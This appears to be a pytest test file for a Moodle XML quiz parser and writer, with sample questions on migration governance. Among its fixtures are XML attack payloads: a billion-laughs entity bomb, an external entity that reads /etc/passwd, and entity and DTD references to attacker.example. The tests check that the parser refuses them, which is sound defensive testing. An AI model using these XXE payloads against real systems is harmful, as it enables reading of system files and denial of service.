"""Moodle XML import and export: pure functions, no database, no network, no files."""

from __future__ import annotations

import socket
import time
import urllib.request
from dataclasses import replace

import pytest

from quizzes.formats.moodle_xml import parse_moodle_xml, write_moodle_xml
from quizzes.formats.report import NO_TAGS_WARNING
from quizzes.questions import Choice, MatchPair, PartialCredit, QuestionKind
from tests.quizzes.samples import ALL_KINDS, SINGLE

MOODLE_EXPORT = b"""<?xml version="1.0" encoding="UTF-8"?>
<quiz>
<!-- question: 0  -->
  <question type="category">
    <category><text>$course$/top/MiGOF module 1</text></category>
    <info format="html"><text></text></info>
  </question>

<!-- question: 101  -->
  <question type="multichoice">
    <name><text>Principles: how many?</text></name>
    <questiontext format="html">
      <text><![CDATA[<p>How many <b>principles</b> does MiGOF set out?</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text><![CDATA[<p>3 principles, 3 objectives.</p>]]></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <single>true</single>
    <shuffleanswers>true</shuffleanswers>
    <answernumbering>abc</answernumbering>
    <correctfeedback format="html"><text>Your answer is correct.</text></correctfeedback>
    <answer fraction="100" format="html">
      <text><![CDATA[<p>Three</p>]]></text>
      <feedback format="html"><text>Right: adherence, evidence, partnerships.</text></feedback>
    </answer>
    <answer fraction="0" format="html">
      <text>Six</text>
      <feedback format="html"><text></text></feedback>
    </answer>
    <tags>
      <tag><text>EIU16-1.1</text></tag>
      <tag><text>SDG-10.7.2-D1</text></tag>
    </tags>
  </question>

  <question type="multichoice">
    <name><text>Objectives</text></name>
    <questiontext format="moodle_auto_format">
      <text>Which are MiGOF objectives?</text>
    </questiontext>
    <defaultgrade>2.0000000</defaultgrade>
    <single>false</single>
    <answer fraction="50">
      <text>Socioeconomic well-being</text><feedback><text>Yes</text></feedback>
    </answer>
    <answer fraction="50"><text>Mobility dimensions of crises</text></answer>
    <answer fraction="-50"><text>Close all borders</text></answer>
    <tags><tag><text>EIU16-2.1</text></tag></tags>
  </question>

  <question type="multichoiceset">
    <name><text>SDG indicators</text></name>
    <questiontext format="html"><text>Pick both SDG 10.7 indicators</text></questiontext>
    <answer fraction="100"><text>10.7.1</text></answer>
    <answer fraction="100"><text>10.7.2</text></answer>
    <answer fraction="0"><text>8.8.1</text></answer>
    <tags><tag><text>SDG-10.7.2-D1</text></tag></tags>
  </question>

  <question type="truefalse">
    <name><text>Resolution</text></name>
    <questiontext format="html"><text>IOM Council welcomed MiGOF in 2015.</text></questiontext>
    <answer fraction="0" format="moodle_auto_format">
      <text>true</text><feedback format="html"><text>Check the year.</text></feedback>
    </answer>
    <answer fraction="100" format="moodle_auto_format">
      <text>false</text><feedback format="html"><text>Right.</text></feedback>
    </answer>
    <tags><tag><text>EIU16-1.1</text></tag></tags>
  </question>

  <question type="shortanswer">
    <name><text>Acronym</text></name>
    <questiontext format="html"><text>The M in MiGOF stands for?</text></questiontext>
    <usecase>1</usecase>
    <answer fraction="100"><text>Migration</text></answer>
    <answer fraction="100"><text>Migration governance*</text></answer>
    <tags><tag><text>EIU16-1.1</text></tag></tags>
  </question>

  <question type="matching">
    <name><text>Match</text></name>
    <questiontext format="html"><text>Match each item.</text></questiontext>
    <shuffleanswers>true</shuffleanswers>
    <subquestion format="html">
      <text>Principle 1</text><answer><text>International standards</text></answer>
    </subquestion>
    <subquestion format="html">
      <text>Objective 1</text><answer><text>Well-being</text></answer>
    </subquestion>
    <subquestion format="html"><text></text><answer><text>Distractor</text></answer></subquestion>
    <tags><tag><text>EIU16-3.2</text></tag></tags>
  </question>

  <question type="ordering">
    <name><text>Policy cycle</text></name>
    <questiontext format="html"><text>Put the steps in order.</text></questiontext>
    <layouttype>VERTICAL</layouttype>
    <selecttype>ALL</selecttype>
    <answer fraction="3.0000000" format="moodle_auto_format"><text>Implement</text></answer>
    <answer fraction="1.0000000" format="moodle_auto_format"><text>Assess</text></answer>
    <answer fraction="4.0000000" format="moodle_auto_format"><text>Review</text></answer>
    <answer fraction="2.0000000" format="moodle_auto_format"><text>Plan</text></answer>
    <tags><tag><text>EIU16-4.1</text></tag></tags>
  </question>
</quiz>
"""


@pytest.fixture(autouse=True)
def _no_network(monkeypatch):
    """Parsing must never reach out: any socket or URL opening fails the test."""

    def refuse(*args, **kwargs):
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)


def test_moodle_export_every_kind():
    report = parse_moodle_xml(MOODLE_EXPORT)
    assert report.ok, report.rejected
    assert [item.index for item in report.items] == [1, 2, 3, 4, 5, 6, 7]
    assert report.warnings == [
        "Category '$course$/top/MiGOF module 1' ignored (questions are filed by indicator tags)."
    ]
    single, multiple, all_or_nothing, true_false, short, matching, ordering = report.questions

    assert single.kind == QuestionKind.SINGLE_CHOICE
    assert single.title == "Principles: how many?"
    assert single.stem == "<p>How many <b>principles</b> does MiGOF set out?</p>"
    assert single.choices == (
        Choice("c1", "<p>Three</p>", True, "Right: adherence, evidence, partnerships."),
        Choice("c2", "Six", False, ""),
    )
    assert single.explanation == "<p>3 principles, 3 objectives.</p>"
    assert single.tags == ("EIU16-1.1", "SDG-10.7.2-D1")
    assert report.items[0].warnings == ()

    assert multiple.kind == QuestionKind.MULTIPLE_RESPONSE
    assert multiple.partial_credit == PartialCredit.RIGHT_MINUS_WRONG
    assert [c.correct for c in multiple.choices] == [True, True, False]
    assert multiple.choices[0].feedback == "Yes"
    assert multiple.points == 2.0

    assert all_or_nothing.partial_credit == PartialCredit.ALL_OR_NOTHING
    assert [c.correct for c in all_or_nothing.choices] == [True, True, False]

    assert true_false.choices == (
        Choice("true", "True", False, "Check the year."),
        Choice("false", "False", True, "Right."),
    )

    assert short.accepted_answers == ("Migration", "Migration governance*")
    assert short.case_sensitive is True

    assert matching.pairs == (
        MatchPair("m1", "Principle 1", "International standards"),
        MatchPair("m2", "Objective 1", "Well-being"),
    )
    assert "distractor" in report.items[5].warnings[0]

    assert ordering.kind == QuestionKind.ORDERING
    assert [c.text for c in ordering.choices] == ["Assess", "Plan", "Implement", "Review"]
    assert [c.key for c in ordering.choices] == ["c1", "c2", "c3", "c4"]


def _quiz(*questions: str) -> bytes:
    return ("<quiz>" + "".join(questions) + "</quiz>").encode()


def _question(qtype: str, body: str = "", name: str = "Q") -> str:
    return (
        f'<question type="{qtype}"><name><text>{name}</text></name>'
        f"<questiontext><text>Stem</text></questiontext>{body}"
        "<tags><tag><text>X</text></tag></tags></question>"
    )


FINE = _question("shortanswer", '<answer fraction="100"><text>ok</text></answer>', "Fine")


@pytest.mark.parametrize(
    ("question", "reason"),
    [
        (_question("essay"), "'essay' is not supported (essay questions need manual grading)"),
        (_question("numerical", '<answer fraction="100"><text>4</text></answer>'), "numerical"),
        (_question("multianswer"), "Cloze"),
        (_question("calculated"), "'calculated' is not supported"),
        (_question("calculatedmulti"), "'calculatedmulti' is not supported"),
        (_question("description"), "a description is text, not a question"),
        (_question("ddwtos"), "drag and drop"),
        (_question("gapselect"), "'gapselect' is not supported"),
        (_question("randomsamatch"), "'randomsamatch' is not supported"),
        (_question("mystery"), "'mystery' is not supported; supported types: multichoice"),
        ("<question><name><text>Q</text></name></question>", "'(none)' is not supported"),
        (
            _question("truefalse", '<answer fraction="100"><text>yes</text></answer>'),
            "neither 'true' nor 'false'",
        ),
        (
            _question("truefalse", '<answer fraction="0"><text>true</text></answer>'),
            "No true/false answer has fraction 100",
        ),
        (
            _question("multichoice", '<answer fraction="lots"><text>a</text></answer>'),
            "fraction 'lots' is not a number",
        ),
        (
            _question("multichoice", '<answer fraction="nan"><text>a</text></answer>'),
            "fraction 'nan' is not a number",
        ),
        (
            _question(
                "multichoice",
                '<answer fraction="50"><text>a</text></answer><answer><text>b</text></answer>',
            ),
            "No answer is marked correct",
        ),
        (
            _question("multichoice", '<answer fraction="100"><text>a</text></answer>'),
            "at least two answers",
        ),
        (
            _question(
                "multichoice",
                "<single>false</single><answer><text>a</text></answer><answer><text>b</text></answer>",
            ),
            "No answer is marked correct",
        ),
        (
            _question(
                "matching",
                "<subquestion><text>a</text><answer><text>1</text></answer></subquestion>",
            ),
            "at least two pairs",
        ),
        (
            _question("shortanswer", '<answer fraction="50"><text>almost</text></answer>'),
            "at least one accepted answer",
        ),
        (_question("ordering", '<answer fraction="1"><text>only</text></answer>'), "two items"),
        (
            '<question type="shortanswer"><questiontext><text> </text></questiontext>'
            '<answer fraction="100"><text>a</text></answer></question>',
            "question text is empty",
        ),
    ],
)
def test_rejections(question, reason):
    report = parse_moodle_xml(_quiz(question, FINE))
    assert not report.ok
    assert len(report.rejected) == 1 and [q.title for q in report.questions] == ["Fine"]
    rejected = report.rejected[0]
    assert rejected.index == 1 and rejected.question is None
    assert reason in rejected.error, rejected.error


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<quiz><question type="shortanswer"><questiontext><text>&lol9;</text></questiontext>
</question></quiz>
"""

EXTERNAL_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="shortanswer"><questiontext><text>&secret;</text></questiontext>
<answer fraction="100"><text>a</text></answer></question></quiz>
"""

EXTERNAL_URL = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY remote SYSTEM "http://attacker.example/x">]>
<quiz><question type="shortanswer"><questiontext><text>&remote;</text></questiontext>
<answer fraction="100"><text>a</text></answer></question></quiz>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>
<quiz/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/quiz.dtd">
<quiz/>
"""


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (BILLION_LAUGHS, "refused for safety"),
        (EXTERNAL_FILE, "refused for safety"),
        (EXTERNAL_URL, "refused for safety"),
        (PARAMETER_ENTITY, "refused for safety"),
        (EXTERNAL_DTD, "refused for safety"),
        (b"<quiz><question type='truefalse'>", "Not well-formed XML"),
        (b"<quiz></question></quiz>", "Not well-formed XML"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "Not well-formed XML"),
        (bytes(range(256)) * 4, "Not well-formed XML"),
        ("<quiz><question type='essay'/></quiz>".encode("utf-16-be")[2:], "Not well-formed"),
        (
            '<?xml version="1.0" encoding="UTF-8"?><quiz><question type="essay">'
            "<name><text>Migración</text></name></question></quiz>".encode("latin-1"),
            "Not well-formed XML",
        ),
        (b'<?xml version="1.0" encoding="UTF-16"?><quiz/>', "Not well-formed XML"),
        (b'<?xml version="1.0" encoding="klingon"?><quiz/>', "encoding cannot be read"),
        (b"", "The file is empty"),
        (b"  \n ", "The file is empty"),
        (b"<html><body>Not a quiz</body></html>", "root element is <html>, not <quiz>"),
        (b"<quiz/>", "No questions found"),
        (
            b'<quiz><question type="category"><category><text>x</text></category>'
            b"</question></quiz>",
            "No questions found",
        ),
        (b"<quiz>" + b" " * (5 * 1024 * 1024) + b"</quiz>", "larger than 5 MB"),
        (12345, "must be bytes"),
    ],
)
def test_unreadable_or_hostile_input_gives_one_rejected_item(data, reason):
    started = time.monotonic()
    report = parse_moodle_xml(data)
    assert time.monotonic() - started < 2
    assert not report.ok and report.questions == []
    assert len(report.items) == 1 and report.items[0].index == 0
    assert reason in report.items[0].error, report.items[0].error


def test_utf16_with_bom_and_declaration_is_read():
    text = '<?xml version="1.0" encoding="UTF-16"?><quiz>' + FINE + "</quiz>"
    report = parse_moodle_xml(text.encode("utf-16"))  # with BOM
    assert report.ok and report.questions[0].accepted_answers == ("ok",)


def test_text_input_is_accepted_too():
    assert parse_moodle_xml("<quiz>" + FINE + "</quiz>").ok


def test_warnings():
    body = (
        "<defaultgrade>many</defaultgrade>"
        '<answer fraction="100"><text>Paris</text><feedback><text>Yes</text></feedback></answer>'
        '<answer fraction="50"><text>Lutetia</text></answer>'
        '<answer fraction="0"><text>*</text><feedback><text>No</text></feedback></answer>'
        '<file name="map.png" encoding="base64">iVBORw0KGgo=</file>'
    )
    question = (
        '<question type="shortanswer"><name><text>Capital</text></name>'
        "<questiontext><text>@@PLUGINFILE@@/map.png Capital?</text></questiontext>"
        f"{body}</question>"
    )
    report = parse_moodle_xml(_quiz(question))
    assert report.ok
    item = report.items[0]
    assert item.question.accepted_answers == ("Paris",)
    assert item.question.points == 1.0
    warnings = " | ".join(item.warnings)
    assert "'Lutetia' (50%) dropped" in warnings
    assert "'*' (0%) dropped" in warnings
    assert "Feedback on short answer 'Paris'" in warnings
    assert "Embedded files" in warnings
    assert "Default mark 'many'" in warnings
    assert item.warnings[-1] == NO_TAGS_WARNING


def test_partial_credit_warnings():
    single = _question(
        "multichoice",
        '<answer fraction="100"><text>a</text></answer><answer fraction="50"><text>b</text>'
        "</answer>",
    )
    multiple = _question(
        "multichoice",
        '<single>false</single><answer fraction="70"><text>a</text></answer>'
        '<answer fraction="30"><text>b</text></answer><answer fraction="0"><text>c</text></answer>',
    )
    report = parse_moodle_xml(_quiz(single, multiple))
    assert report.ok
    assert [c.correct for c in report.questions[0].choices] == [True, False]
    assert "counts as wrong" in report.items[0].warnings[0]
    assert [c.correct for c in report.questions[1].choices] == [True, True, False]
    assert "right-minus-wrong" in report.items[1].warnings[0]


# --- writing and round trips ---------------------------------------------------------


@pytest.mark.parametrize("question", ALL_KINDS, ids=lambda q: q.title or q.stem[:20])
def test_round_trip(question):
    data = write_moodle_xml([question])
    report = parse_moodle_xml(data)
    assert report.ok, report.items
    assert report.questions == [question]
    assert report.items[0].warnings == ()


def test_round_trip_many_in_one_file():
    report = parse_moodle_xml(write_moodle_xml(ALL_KINDS))
    assert report.questions == ALL_KINDS
    assert report.warnings == []


def test_written_xml_looks_like_moodle_xml():
    data = write_moodle_xml(ALL_KINDS)
    assert data.startswith(b"<?xml version='1.0' encoding='utf-8'?>\n<quiz>")
    text = data.decode()
    for qtype in ("multichoice", "multichoiceset", "truefalse", "shortanswer", "matching"):
        assert f'<question type="{qtype}">' in text
    assert '<question type="ordering">' in text
    assert "<single>false</single>" in text
    assert '<answer fraction="33.3333333" format="plain_text">' in text  # 3 right answers
    assert "<usecase>1</usecase>" in text
    assert '<questiontext format="html">' in text


def test_writer_drops_characters_xml_cannot_hold():
    question = replace(SINGLE, stem="Bell\x07 and\x00 null \ufffe")
    report = parse_moodle_xml(write_moodle_xml([question]))
    assert report.questions[0].stem == "Bell and null"


def test_unicode_survives():
    question = replace(SINGLE, stem="¿Migración ordenada? 移民 — «oui»", title="Ünïcödé")
    assert parse_moodle_xml(write_moodle_xml([question])).questions == [question]
